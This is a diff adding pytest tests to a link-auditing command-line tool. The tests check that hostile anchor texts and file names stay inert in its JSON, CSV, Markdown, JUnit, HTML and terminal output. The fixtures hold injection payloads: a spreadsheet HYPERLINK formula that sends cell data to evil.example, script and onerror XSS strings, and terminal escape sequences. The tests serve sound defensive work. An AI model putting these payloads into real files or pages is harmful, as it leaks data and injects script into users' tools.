@@ -6,6 +6,7 @@ import csv
 import io
 import json
 import os
+import re
 import subprocess
 import sys
 from pathlib import Path
@@ -602,3 +603,206 @@ def test_a_list_skips_what_the_article_scanner_ignores() -> None:
 
     assert NOT_SOURCES == _NON_WEB_SCHEMES  # the same links skipped however they are given
     assert not NOT_SOURCES & WEB_SCHEMES
+
+
+# --- What users' scripts and CI read: every format with hostile articles ----------------------
+
+HOSTILE_ANCHORS = {
+    "https://dead.example/formula": '=HYPERLINK("http://evil.example/?"&A1,"click"), "quoted" | pipe',
+    "https://dead.example/markup?q=</script><script>alert(1)</script>": "</script><img src=x onerror=alert(1)>",
+    "https://dead.example/rtl": "\u202egnp.exe\u202c and \x1b[31mred\x1b[0m",
+    "https://dead.example/long": "A" * 5000,
+    "https://alive.example/at": "@SUM(1+1)",
+}
+
+
+@pytest.fixture
+def hostile(twitter_web: TwitterWeb, tmp_path: Path) -> Path:
+    """A folder: an article of hostile anchor texts and URLs, and one whose name holds escape
+    sequences (clear the screen, set the window title)."""
+    web = twitter_web.web
+    web.add_host("dead.example", lambda request: Response.html("<p>gone</p>", status=404))
+    web.page("https://alive.example/at", "<html><p>here</p></html>")
+    folder = tmp_path / "articles"
+    folder.mkdir()
+    import html as html_module
+
+    (folder / "hostile.html").write_text(
+        "<html><body>"
+        + "".join(
+            f'<p><a href="{html_module.escape(url)}">{html_module.escape(text)}</a></p>\n'
+            for url, text in HOSTILE_ANCHORS.items()
+        )
+        + "</body></html>",
+        encoding="utf-8",
+    )
+    (folder / "evil\x1b[2J\x1b]0;pwned\x07.html").write_text(
+        '<p><a href="https://dead.example/named">x</a></p>', encoding="utf-8"
+    )
+    return folder
+
+
+def _audit(folder: Path, *args: str) -> subprocess.CompletedProcess[str]:
+    return run("audit", "--no-cache", "--wayback", "off", "--no-probe", *args, str(folder))
+
+
+def test_hostile_text_in_json_jsonl_and_csv_stays_data(hostile: Path) -> None:
+    lines = _audit(hostile, "-f", "jsonl")
+    assert lines.returncode == 1, lines.stderr
+    # One record a line by any reader's idea of a line (str.splitlines() also breaks at NEL, U+2028).
+    rows = [json.loads(line) for line in lines.stdout.splitlines()]
+    assert len(rows) == len(HOSTILE_ANCHORS) + 1
+    for row in rows:
+        assert {"article", "url", "final_url", "verdict", "outcome", "evidence", "where", "wayback_url",
+                "wayback_timestamp"} <= set(row)  # fmt: skip
+    texts = {row["url"]: row["text"] for row in rows}
+    for url, text in HOSTILE_ANCHORS.items():  # the scanner cuts a paragraph of anchor text
+        assert texts[url] == text if len(text) < 300 else texts[url].startswith("AAAA")
+    document = json.loads(_audit(hostile, "-f", "json").stdout)
+    assert document["links"] == rows and document["summary"]["links"] == len(rows)
+
+    table = list(csv.DictReader(io.StringIO(_audit(hostile, "-f", "csv").stdout)))
+    cells = {row["url"]: row for row in table}
+    assert len(table) == len(rows)
+    # A spreadsheet shows a formula-like cell as text: a leading `'`, the rest as it was.
+    assert (
+        cells["https://dead.example/formula"]["text"] == "'" + HOSTILE_ANCHORS["https://dead.example/formula"]
+    )
+    assert cells["https://alive.example/at"]["text"] == "'@SUM(1+1)"
+    markup = "https://dead.example/markup?q=</script><script>alert(1)</script>"
+    assert cells[markup]["text"] == HOSTILE_ANCHORS[markup]
+    assert {row["from_cache"] for row in table} == {"false"}
+
+
+def test_a_jsonl_record_is_one_line_whatever_its_url_holds(twitter_web: TwitterWeb, tmp_path: Path) -> None:
+    listing = tmp_path / "links.txt"
+    listing.write_text("https://odd.example/a\u2028b\x85c\u2029d\n", encoding="utf-8")
+    done = run("audit", "--no-cache", "--wayback", "off", "--urls", str(listing), "-f", "jsonl")
+    [line] = done.stdout.splitlines()
+    assert json.loads(line)["url"] == "https://odd.example/a\u2028b\x85c\u2029d"
+
+
+def test_hostile_text_in_markdown_junit_html_and_the_terminal_stays_text(hostile: Path) -> None:
+    from tests.test_audit_report import junit_problems
+
+    markdown = _audit(hostile, "-f", "markdown").stdout
+    rows = [line for line in markdown.splitlines() if "<https://dead.example" in line]
+    assert len(rows) == 5 and all(len(re.split(r"(?<!\\)\|", row)) == 9 for row in rows)  # 7 cells each
+    assert "\u202e" not in markdown and "\x1b" not in markdown
+    assert not re.search(r"(?<!\\)<(img|/script)", markdown)
+
+    junit = _audit(hostile, "-f", "junit", "--fail-on", "dead").stdout
+    assert junit_problems(junit) == []
+    assert "\u202e" not in junit and "\x1b" not in junit
+
+    page_path = hostile.parent / "audit.html"
+    done = _audit(hostile, "-f", "jsonl", "--html", str(page_path))
+    assert done.returncode == 1
+    import lxml.html
+
+    page = lxml.html.document_fromstring(page_path.read_text(encoding="utf-8"))
+    assert page.xpath("//img | //iframe | //object | //embed | //link | //*[@src]") == []
+    assert all(href.startswith("https://") for href in page.xpath("//a/@href"))
+    assert [s.get("type") for s in page.xpath("//script")] == ["application/json", None]
+    assert page.xpath("string(//*[@data-figure='dead'])") == "5"
+
+    # The terminal: escape sequences from an anchor text or a file name are shown, never run.
+    table = _audit(hostile, "-f", "table")
+    for text in (table.stdout, table.stderr):
+        assert "\x1b" not in text and "\u202e" not in text and "\x07" not in text
+    assert "\\x1b[31mred" in table.stdout and "evil\\x1b[2J\\x1b]0;pwned\\x07.html:1" in table.stdout
+    assert "A" * 99 + "…" in table.stdout and "A" * 101 not in table.stdout  # a paragraph is cut
+
+
+EXIT_CASES: list[tuple[list[str], int, str]] = [
+    ([], 1, ""),
+    (["--fail-on", "uncertain"], 0, ""),
+    (["--fail-on", "dead,uncertain"], 1, ""),
+    (["--fail-on", "soft-404"], 0, ""),
+    (["--fail-on", "dead,gone"], 2, "--fail-on gone: not a verdict or an outcome"),
+    (["--fail-on", ""], 2, "--fail-on: name the verdicts or outcomes"),  # "$FAIL_ON" unset
+    (["--fail-on", " , "], 2, "--fail-on: name the verdicts or outcomes"),
+    (["--format", "xml"], 2, "--format xml"),
+]
+
+
+@pytest.mark.parametrize(("args", "code", "message"), EXIT_CASES)
+def test_exit_codes_of_a_run_with_a_dead_link(
+    twitter_web: TwitterWeb, tmp_path: Path, args: list[str], code: int, message: str
+) -> None:
+    twitter_web.web.status("https://dead.example/gone", 404)
+    listing = tmp_path / "links.txt"
+    listing.write_text("https://dead.example/gone\n", encoding="utf-8")
+    done = run("audit", "--no-cache", "--wayback", "off", "-f", "jsonl", "--urls", str(listing), *args)
+    assert done.returncode == code, done.stderr
+    if message:
+        assert message in done.stderr and len(done.stderr.splitlines()) == 1 and not done.stdout
+
+
+CONFIG_CASES: list[tuple[str, str, str]] = [
+    ("resolver.toml", "per_host = true\n", "per_host is a whole number"),
+    ("resolver.toml", 'exclude = "x"\n', "exclude is a list"),
+    ("resolver.toml", "hosts = []\n", "hosts is a table"),
+    ("resolver.toml", 'overrides = "x"\n', "overrides is a list of tables"),
+    ("resolver.toml", '[[overrides]]\npattern = "x"\n', "each override has a pattern and a verdict"),
+    ("resolver.toml", '[[overrides]]\npattern = "x"\nverdict = "alive"\nreason = "paywall"\n', "unknown setting reason"),
+    ("resolver.toml", "exclude = [\n", "cannot read the configuration"),
+    ("resolver.toml", "colour = 1\n", "unknown setting colour"),
+    ("pyproject.toml", "tool = 3\n", ""),  # no [tool.resolver]: nothing of ours, not an error
+    ("pyproject.toml", "[tool]\nresolver = 3\n", "tool.resolver is a table"),
+    ("pyproject.toml", "[tool.resolver]\nper_host = 0\n", "per_host is a whole number"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("name", "text", "message"), CONFIG_CASES)
+def test_a_bad_configuration_is_one_line_and_exit_2(
+    twitter_web: TwitterWeb, tmp_path: Path, name: str, text: str, message: str
+) -> None:
+    twitter_web.web.page("https://alive.example/a", "<p>a</p>")
+    (tmp_path / "links.txt").write_text("https://alive.example/a\n", encoding="utf-8")
+    (tmp_path / name).write_text(text, encoding="utf-8")
+    done = subprocess.run(
+        [sys.executable, "-m", "resolver", "audit", "--no-cache", "--wayback", "off", "--urls", "links.txt", "-f", "jsonl"],
+        capture_output=True, text=True, timeout=60, env=dict(os.environ), cwd=tmp_path,
+    )  # fmt: skip
+    if not message:
+        assert done.returncode == 0, done.stderr
+        return
+    assert done.returncode == 2 and not done.stdout
+    [line] = done.stderr.splitlines()
+    assert message in line and name in line
+
+
+def test_the_configuration_is_read_from_the_current_folder_only(
+    twitter_web: TwitterWeb, tmp_path: Path
+) -> None:
+    web = twitter_web.web
+    web.page("https://alive.example/a", "<p>a</p>")
+    web.page("https://other.example/b", "<p>b</p>")
+    (tmp_path / "links.txt").write_text(
+        "https://alive.example/a\nhttps://other.example/b\n", encoding="utf-8"
+    )
+    (tmp_path / "resolver.toml").write_text('exclude = ["alive\\\\.example"]\n', encoding="utf-8")
+    (tmp_path / "pyproject.toml").write_text(
+        '[tool.resolver]\nexclude = ["other\\\\.example"]\n', encoding="utf-8"
+    )
+    (tmp_path / "sub").mkdir()
+
+    def verdicts(cwd: Path, listing: str) -> dict[str, str]:
+        done = subprocess.run(
+            [sys.executable, "-m", "resolver", "audit", "--no-cache", "--wayback", "off", "--urls", listing, "-f", "jsonl"],
+            capture_output=True, text=True, timeout=60, env=dict(os.environ), cwd=cwd,
+        )  # fmt: skip
+        assert done.returncode == 0, done.stderr
+        return {row["url"]: row["verdict"] for row in jsonl(done.stdout)}
+
+    # Both files: resolver.toml wins, and pyproject.toml is not read at all.
+    assert verdicts(tmp_path, "links.txt") == {
+        "https://alive.example/a": "excluded",
+        "https://other.example/b": "alive",
+    }
+    # Not the parents' files, nor the inputs' folder's: the same command means the same anywhere.
+    assert verdicts(tmp_path / "sub", "../links.txt") == {
+        "https://alive.example/a": "alive",
+        "https://other.example/b": "alive",
+    }
